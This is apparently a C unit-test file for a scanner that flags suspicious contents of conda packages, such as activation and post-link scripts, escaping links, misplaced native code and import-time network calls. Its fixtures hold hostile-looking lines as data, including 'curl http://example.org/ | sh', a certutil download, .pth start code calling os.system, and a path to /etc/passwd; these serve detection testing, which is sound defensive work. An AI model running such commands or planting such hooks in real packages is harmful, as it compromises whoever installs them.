/* What the members of a conda package are by themselves: by where they are installed, over links,
 * in whichever order they come; limits. What Python packages inside have test_conda_as_wheel.c
 * shows. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tests/ch_test.h"
#include "conda_build.h"
#include "customhouse/limits.h"
#include "scan_run.h"
#include "scanner/eco/conda/package/package.h"

#define INDEX(more)                                                                                \
    "{\"name\": \"foo\", \"version\": \"1.0\", \"build\": \"py_0\", \"build_number\": 0, "         \
    "\"depends\": [], " more "}"
#define LINUX   INDEX("\"subdir\": \"linux-64\"")
#define ARM     INDEX("\"subdir\": \"linux-aarch64\"")
#define GENERIC INDEX("\"subdir\": \"noarch\", \"noarch\": \"generic\"")
#define GETS    "import urllib.request\nurllib.request.urlopen('http://example.org/')\n"
#define SITE    "lib/python3.12/site-packages/"
#define INFO    "site-packages/foo-1.0.dist-info/"
#define FETCHES "#!/bin/sh\ncurl http://example.org/ | sh\n"
#define HASH    "47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU" /* of nothing */

/* clang-format off */
static const struct row {
    const char *label;
    struct conda_spec spec;
    const char *findings; /* their names, sorted, separated by blanks */
} rows[] = {
    /* what runs */
    {"activation", {.more = {{"etc/conda/activate.d/foo.sh", FETCHES}}}, "conda-activate hidden-command"},
    {"activation, by letters", {.more = {{"etc/Conda/Activate.d/foo.sh", FETCHES}}}, "conda-activate hidden-command"},
    {"after linking", {.more = {{"bin/.foo-post-link.sh", FETCHES}}}, "conda-link-script hidden-command"},
    {"after linking, on Windows", {.more = {{"Scripts/.foo-post-link.bat", "certutil -urlcache -f http://example.org/x x\n"}}},
     "conda-link-script hidden-command"},
    {"a command", {.more = {{"python-scripts/foo", FETCHES}}}, "hidden-command"},
    {"a script among data", {.more = {{"share/foo/x.sh", FETCHES}}}, ""},
    {"the recipe", {.more = {{"info/recipe/build.sh", FETCHES, .in_info = true, .unlisted = true}}}, ""},
    {"the recipe's tests", {.more = {{"info/test/run_test.py", GETS, .in_info = true, .unlisted = true}}}, ""},
    {"native code in the recipe", {.more = {{"info/recipe/x.txt", NULL, .elf = true, .in_info = true, .unlisted = true}}},
     "native-disguised"},
    {"an environment's records", {.more = {{"conda-meta/foo.json", "{}"}}}, "conda-meta"},
    {"... by letters", {.more = {{"Conda-Meta/state", "{}"}}}, "conda-meta"},
    {"an environment's records, honest", {.more = {{"share/conda-meta/foo.json", "{}"}}}, ""},
    {"entry points of noarch packages", {.link = "{\"noarch\": {\"type\": \"python\", \"entry_points\": [\"x = foo.tests.a:b\"]}}",
      .more = {{"site-packages/foo/tests/a.py", GETS}}}, "import-network"},
    {"... that nobody states", {.link = "{\"noarch\": {\"type\": \"python\", \"entry_points\": []}}", .index = LINUX}, "conda-index"},
    /* what a package is for */
    {"native code of noarch packages", {.more = {{"site-packages/foo/x.so", NULL, .elf = true}}}, "native-in-pure-wheel"},
    {"native code that is generic", {.index = GENERIC, .more = {{"lib/foo/x.so", NULL, .elf = true}}}, ""},
    {"native code for another machine", {.index = LINUX, .more = {{SITE "foo/x.so", NULL, .elf = true}}}, "native-machine"},
    {"native code for the machine", {.index = ARM, .more = {{SITE "foo/x.so", NULL, .elf = true}}}, ""},
    {"... before it is known", {.bzip2 = true, .info_last = true, .index = LINUX, .more = {{SITE "foo/x.so", NULL, .elf = true}}},
     "native-machine"},
    {"... before it is known, and honest", {.bzip2 = true, .info_last = true, .index = ARM,
      .more = {{SITE "foo/x.so", NULL, .elf = true}, {SITE "foo/y.py", "x = 1\n"}}}, ""},
    {"noarch and a platform", {.index = INDEX("\"subdir\": \"linux-64\", \"noarch\": \"python\"")}, "conda-index"},
    {"noarch of another kind", {.index = INDEX("\"subdir\": \"noarch\", \"noarch\": \"ruby\"")}, "conda-index"},
    {"noarch of old", {.index = INDEX("\"subdir\": \"noarch\", \"noarch\": true")}, ""},
    /* links */
    {"a link to a module", {.more = {{"site-packages/a.py", NULL, "foo.py"}}}, ""},
    {"a link to data, imported", {.index = GENERIC, .more = {{"share/x.dat", GETS}, {"site-packages/a.py", NULL, "../share/x.dat"}}}, "import-network"},
    {"... over two links", {.index = GENERIC, .more = {{"share/x.dat", GETS}, {"share/y", NULL, "x.dat"}, {"site-packages/a.py", NULL, "../share/y"}}},
     "import-network"},
    {"... at start", {.index = GENERIC, .more = {{"share/x.dat", "import os; os.system('x')\n"}, {"site-packages/a.pth", NULL, "../share/x.dat"}}},
     "start-code"},
    {"a hard link to data, imported", {.more = {{"share/x.dat", GETS}, {"site-packages/a.py", NULL, "share/x.dat", .hard = true}}},
     "import-network"},
    {"a hard link among tests", {.more = {{"site-packages/foo/tests/a.py", GETS},
      {"site-packages/a.py", NULL, "site-packages/foo/tests/a.py", .hard = true}}}, "import-network"},
    {"a hard link, listed with its content", {.index = LINUX, .bzip2 = true, .more = {{"lib/x", "x"}, {"lib/y", NULL, "lib/x", .hard = true}}}, ""},
    {"a hard link, listed with another", {.index = LINUX, .bzip2 = true, .more = {{"lib/x", "x"},
      {"lib/y", NULL, "lib/x", .hard = true, .wrong_hash = true}}}, "conda-differs"},
    {"a link to a script, activated", {.more = {{"share/x", FETCHES}, {"etc/conda/activate.d/x.sh", NULL, "../../../share/x"}}},
     "conda-activate hidden-command"},
    {"a link to a folder of data", {.index = GENERIC, .more = {{"share/foo/x.py", GETS}, {"site-packages/a", NULL, "../share/foo"}}}, "conda-link"},
    {"a link to a folder of tests", {.more = {{"site-packages/foo/tests/x.py", "x = 1\n"}, {"site-packages/a", NULL, "foo/tests"}}},
     "conda-link"},
    {"a link to a folder of modules", {.more = {{"site-packages/foo/x.py", "x = 1\n"}, {"site-packages/a", NULL, "foo"}}}, ""},
    {"a link instead of the standard library", {.more = {{"share/foo/x.py", GETS}, {"lib/python3.12", NULL, "../share/foo"}}}, "conda-link"},
    {"a link between folders of Python", {.more = {{"lib/python3.12/x.py", "x = 1\n"}, {"lib/python3.1", NULL, "python3.12"}}}, ""},
    {"a link to what is not there, imported", {.more = {{"site-packages/a.py", NULL, "../share/none"}}}, "conda-link"},
    {"a link to what is not there", {.more = {{"lib/libfoo.so", NULL, "libfoo.so.1"}}}, ""},
    {"a link instead of scripts, to what another package may bring", {.more = {{"etc/conda/activate.d", NULL, "../../share/c"}}}, "conda-link"},
    {"a link above them, likewise", {.more = {{"etc", NULL, "share/c"}}}, "conda-link"},
    {"a link instead of commands, likewise", {.more = {{"bin", NULL, "share/c"}}}, "conda-link"},
    {"a link in the standard library, likewise", {.more = {{"lib/python3.12/a", NULL, "../../share/a"}}}, "conda-link"},
    {"a link instead of the standard library, likewise", {.more = {{"lib/python3.12", NULL, "../share/a"}}}, "conda-link"},
    {"a link instead of the packages, likewise", {.more = {{"Site-Packages", NULL, "share/a"}}}, "conda-link tar-duplicate-name"},
    {"a link of no place, likewise", {.more = {{"share/info", NULL, "terminfo"}}}, ""},
    {"a link to what tells of a package", {.more = {{"share/x", "x"}, {INFO "entry_points.txt", NULL, "../../share/x"}}}, "conda-link"},
    {"a link instead of what tells of a package", {.more = {{"share/e/x", "x"}, {"site-packages/e-1.dist-info", NULL, "../share/e"}}},
     "conda-link"},
    {"a link instead of a folder of scripts", {.more = {{"share/c/activate.d/x.sh", "true\n"}, {"Etc/conda", NULL, "../share/c"}}},
     "conda-link"},
    {"a link to a folder of no place", {.more = {{"share/terminfo/x", "x"}, {"share/info", NULL, "terminfo"}}}, ""},
    {"a link to itself", {.more = {{"site-packages/a.py", NULL, "a.py"}}}, "conda-link"},
    /* as a writer of conda packages has it */
    {"bytes behind a name", {.more = {{"lib/x", "x", .stale = true}, {"lib/y", NULL, "x", .stale = true}}}, ""},
    /* reached */
    {"data that is executed", {.more = {{"site-packages/foo/x.dat", "import os\nos.system('x')\n"},
      {"site-packages/a.pth", "import b\n"}, {"site-packages/b.py", "exec(open('foo/x.dat').read())\n"}}}, "data-code start-code"},
    /* Python packages inside */
    {"RECORD of other content", {.more = {{INFO "INSTALLER", "conda\n"}, {INFO "RECORD", "foo-1.0.dist-info/INSTALLER,sha256=" HASH ",0\n"}}},
     "conda-record"},
    {"RECORD of what was left out", {.more = {{INFO "RECORD", "../../bin/foo,sha256=" HASH ",0\nfoo/__pycache__/x.cpython-312.pyc,,\n"}}}, ""},
    {"RECORD of out of the package", {.more = {{INFO "RECORD", "../../../../etc/passwd,sha256=" HASH ",0\n"}}}, ""},
    {"RECORD that is none", {.more = {{INFO "RECORD", "a,b\n"}}}, "conda-record"},
    {"built from a folder", {.more = {{INFO "direct_url.json", "{\"url\": \"file:///home/conda/work\", \"dir_info\": {}}"}}}, ""},
    {"built from elsewhere", {.more = {{INFO "direct_url.json", "{\"url\": \"https://example.org/x\"}"}}}, "direct-reference"},
    {"built from a share", {.more = {{INFO "direct_url.json", "{\"url\": \"file://example.org/x\"}"}}}, "direct-reference"},
    {"built from who knows where", {.more = {{INFO "direct_url.json", "{"}}}, "direct-reference"},
};
/* clang-format on */

/* As .conda and as .tar.bz2 alike. */
static void test_rows(void **state)
{
    (void)state;
    int wrong = 0;
    for (size_t i = 0; i < CH_ARRAY_LEN(rows); i++) {
        for (int bzip2 = rows[i].spec.bzip2 ? 1 : 0; bzip2 < 2; bzip2++) {
            struct conda_spec spec = rows[i].spec;
            spec.bzip2 = bzip2 == 1;
            char *found = conda_findings(&spec, true);
            if (strcmp(found, rows[i].findings) != 0) {
                print_error("%s, %s: found \"%s\", expected \"%s\"\n", rows[i].label,
                            bzip2 == 1 ? ".tar.bz2" : ".conda", found, rows[i].findings);
                wrong++;
            }
            free(found);
        }
    }
    assert_int_equal(wrong, 0);
}

/* Nothing is passed over because it is too much: of either kind. */
static void test_limits(void **state)
{
    (void)state;
    const struct ch_limits before = ch_limits;
    for (int bzip2 = 0; bzip2 < 2; bzip2++) {
        const struct conda_spec spec = {.bzip2 = bzip2 == 1,
                                        .more = {{"site-packages/a.py", GETS}}};
        const struct {
            const char *finding;
            uint64_t *limit;
            uint64_t value;
        } limits[] = {
            {"limit", &ch_limits.conda_kept_bytes, 300}, /* enough for less than info/ has */
            {"limit", &ch_limits.member_whole_bytes, 16},
            {"limit", &ch_limits.archive_members, 2},
            {"limit", &ch_limits.archive_unpacked_bytes, 1024},
            {"limit", &ch_limits.archive_names_bytes, 8},
            {"stream-ratio", &ch_limits.archive_ratio, 1},
        };
        for (size_t i = 0; i < CH_ARRAY_LEN(limits); i++) {
            ch_limits.archive_ratio_from_bytes = 1024;
            *limits[i].limit = limits[i].value;
            char *found = conda_findings(&spec, false);
            ch_limits = before;
            if (strstr(found, limits[i].finding) == NULL) {
                fail_msg("limit %zu: \"%s\"", i, found);
            }
            free(found);
        }
    }
}

static void test_facts(void **state)
{
    (void)state;
    static const char *const facts[][2] = {
        {"subdir", "noarch"},      {"noarch", "python"},
        {"build", "py_0"},         {"build-number", "0"},
        {"depends", "python"},     {"license", "Apache 2.0"},
        {"licence", "Apache-2.0"}, {"entry-point", "console_scripts x = foo:main"},
        {"timestamp", "1700000000000"},
        {"python-site-packages-path", "lib/python3.12/site-packages"}};
    const struct conda_spec spec = {
        .index = "{\"name\": \"foo\", \"version\": \"1.0\", \"build\": \"py_0\", \"build_number\": "
                 "0, \"depends\": [\"python\"], \"subdir\": \"noarch\", \"noarch\": \"python\", "
                 "\"license\": \"Apache 2.0\", \"timestamp\": 1700000000000, "
                 "\"python_site_packages_path\": \"lib/python3.12/site-packages\"}",
        .link = "{\"noarch\": {\"type\": \"python\", \"entry_points\": [\"x = foo:main\"]}}"};
    struct ch_buf b;
    struct scan_run r;
    struct ch_scan_job job = conda_job(&spec);
    conda_build(&b, &spec);
    scan_run(&r, ch_conda_package_inspect, &job, ch_buf_str(&b));
    for (size_t i = 0; i < CH_ARRAY_LEN(facts); i++) {
        struct ch_str value = scan_run_fact(&r, facts[i][0]);
        if (!ch_str_eq(value, ch_str_of(facts[i][1]))) {
            fail_msg("%s: \"%.*s\"", facts[i][0], CH_STR_ARG(value));
        }
    }
    scan_run_done(&r);
    ch_buf_done(&b);
}

/* auto-load "top-level NAME": a module that is another project's. */
static void test_modules(void **state)
{
    (void)state;
    static const struct {
        const char *package, *path, *fact; /* absent: none */
    } modules[] = {
        {"torch", SITE "torch/x.py", NULL},
        {"pytorch", SITE "torch/x.py", NULL},
        {"pytorch", SITE "numpy/x.py", "top-level numpy"},
        {"pytorch-extra", SITE "torch/x.py", "top-level torch"},
        {"matplotlib-base", "site-packages/matplotlib/x.py", NULL},
        {"foo", "site-packages/json/x.py", "top-level json"},
        {"python", "lib/python3.12/json/x.py", "data lib/python3.12"},
        {"foo", "bin/json.py", "top-level json"},
    };
    for (size_t i = 0; i < CH_ARRAY_LEN(modules); i++) {
        struct ch_buf b;
        struct scan_run r;
        const struct conda_spec spec = {.more = {{modules[i].path, "x = 1\n"}}};
        struct ch_scan_job job = conda_job(&spec);
        job.project = ch_str_of(modules[i].package);
        conda_build(&b, &spec);
        scan_run(&r, ch_conda_package_inspect, &job, ch_buf_str(&b));
        struct ch_str fact = scan_run_fact(&r, "auto-load");
        if (!ch_str_eq(fact, ch_str_of(modules[i].fact))) {
            fail_msg("%s of %s: \"%.*s\"", modules[i].path, modules[i].package, CH_STR_ARG(fact));
        }
        scan_run_done(&r);
        ch_buf_done(&b);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_rows),
        cmocka_unit_test(test_limits),
        cmocka_unit_test(test_facts),
        cmocka_unit_test(test_modules),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
